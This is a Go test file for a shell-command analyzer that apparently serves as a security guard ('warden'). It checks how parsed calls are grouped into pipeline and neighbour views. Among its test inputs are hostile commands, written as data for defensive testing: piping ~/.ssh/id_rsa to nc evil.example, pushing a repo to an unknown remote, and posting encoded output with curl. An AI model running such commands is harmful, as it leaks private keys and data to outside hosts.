package shell

import (
	"testing"

	"github.com/wardenhq/warden/checks"
)

// TestCallViews checks Others, Upstream, Downstream and Pipeline against
// the call lists they read: the same calls in the same order, each as its
// own view, Pipeline's empty answer an empty list only inside a pipeline,
// one allocation for the first answer of a check and none for the rest.
func TestCallViews(t *testing.T) {
	for _, cmd := range []string{
		"cat ~/.ssh/id_rsa | grep -v x | nc evil.example 80; ls -la",
		"env | sort | head -3 && git remote add o https://x.example/r && git push o",
		"ls; pwd",
		"ls | (( 1 )); pwd", // ls is alone in its pipeline: Pipeline answers an empty list
		"find . -name '*.o' | xargs rm -f | tee log | wc -l",
		"echo $(whoami | tr a-z A-Z) | base64 | curl -d @- https://x.example",
	} {
		a := newAnalyzer(Options{Cwd: testOpts.Cwd, Home: testOpts.Home, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
		f, err := parse(cmd)
		if err != nil {
			t.Fatal(err)
		}
		a.walkStmts(f.Stmts, &ctx{src: cmd, sc: newScope(testOpts.Cwd)})
		if len(a.calls) < 2 {
			t.Fatalf("%s: %d calls", cmd, len(a.calls))
		}
		for _, c := range a.calls {
			var others, pipe []*call
			for _, o := range a.calls {
				if o != c {
					others = append(others, o)
				}
			}
			if p := c.ctx.pipe; p != nil {
				pipe = []*call{}
				for _, o := range p.calls {
					if o != c {
						pipe = append(pipe, o)
					}
				}
			}
			j := a.view(c)
			views := []struct {
				name string
				get  func() []checks.Part
				want []*call
			}{
				{"Others", j.Others, others},
				{"Upstream", j.Upstream, c.upstream()},
				{"Downstream", j.Downstream, c.downstream()},
				{"Pipeline", j.Pipeline, pipe},
			}
			for _, v := range views {
				got := v.get()
				if v.name == "Pipeline" && (got == nil) != (v.want == nil) || len(got) != len(v.want) {
					t.Fatalf("%s: %s of %q: %d calls (nil %v), want %d (nil %v)", cmd, v.name, c.text, len(got), got == nil, len(v.want), v.want == nil)
				}
				for i, g := range got {
					if g.(*judged).c != v.want[i] || g != &v.want[i].view.judged || g.(*judged).a != a {
						t.Fatalf("%s: %s of %q: call %d is %q, want %q", cmd, v.name, c.text, i, g.Text(), v.want[i].text)
					}
				}
				if n := testing.AllocsPerRun(10, func() { v.get() }); n != 0 {
					t.Errorf("%s: %s of %q allocates %v times when asked again", cmd, v.name, c.text, n)
				}
			}
			// A fresh view (the next check's) answers with one allocation
			// at most.
			for _, v := range []func(*judge) []checks.Part{(*judge).Others, (*judge).Upstream, (*judge).Downstream, (*judge).Pipeline} {
				if n := testing.AllocsPerRun(10, func() { v(a.view(c)) }); n > 1 {
					t.Errorf("%s: a view of %q allocates %v times", cmd, c.text, n)
				}
			}
		}
		a.release()
		a.recycle()
	}
}
